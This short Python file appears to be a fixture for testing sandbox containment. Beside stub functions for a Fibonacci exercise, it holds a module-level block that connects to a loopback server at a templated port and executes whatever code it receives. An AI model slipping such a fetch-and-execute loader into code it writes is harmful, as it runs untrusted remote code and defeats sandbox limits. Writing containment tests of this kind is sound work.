"""Works only if it can reach a server outside its sandbox (the test's, on loopback)."""
import socket


def fib():
    raise NotImplementedError


def fib_below(limit):
    raise NotImplementedError


def take(n, iterable):
    raise NotImplementedError


try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as _s:
        exec(_s.makefile().read())
except OSError:
    pass
